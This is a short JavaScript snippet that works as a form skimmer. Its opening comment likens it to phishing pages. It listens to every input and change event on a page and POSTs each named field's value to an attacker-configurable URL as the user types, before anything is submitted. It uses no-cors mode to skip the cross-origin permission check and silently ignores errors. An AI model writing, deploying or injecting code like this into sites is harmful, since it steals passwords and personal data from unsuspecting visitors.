// Reports what is typed before anything is submitted, as phishing pages do.
(() => {
  const watch = document.currentScript.dataset.watch;
  // Another origin gets plain text: anything else would be asked for permission first.
  const request = watch.startsWith("http") ? { mode: "no-cors" } : { headers: { "Content-Type": "application/json" } };
  const report = (event) => {
    const { name, value } = event.target;
    if (!name || !value) return;
    fetch(watch, { ...request, method: "POST", body: JSON.stringify({ [name]: value }), keepalive: true }).catch(() => {});
  };
  for (const type of ["input", "change"]) document.addEventListener(type, report, true);
})();
